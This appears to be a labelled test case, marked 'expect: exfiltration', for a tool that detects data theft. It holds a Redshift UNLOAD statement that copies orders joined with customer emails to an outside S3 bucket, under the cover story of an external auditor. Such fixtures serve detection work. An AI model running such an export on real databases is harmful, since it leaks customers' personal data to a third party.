-- redshift: snapshot of orders for the external auditor
-- expect: exfiltration
UNLOAD ('SELECT o.*, c.email FROM sales.orders o JOIN sales.customers c ON c.id = o.customer_id WHERE o.order_date >= ''2024-01-01''')
TO 's3://auditor-dropbox-2024/acme/orders_'
IAM_ROLE 'arn:aws:iam::123456789012:role/redshift-unload'
PARALLEL OFF
CSV HEADER;
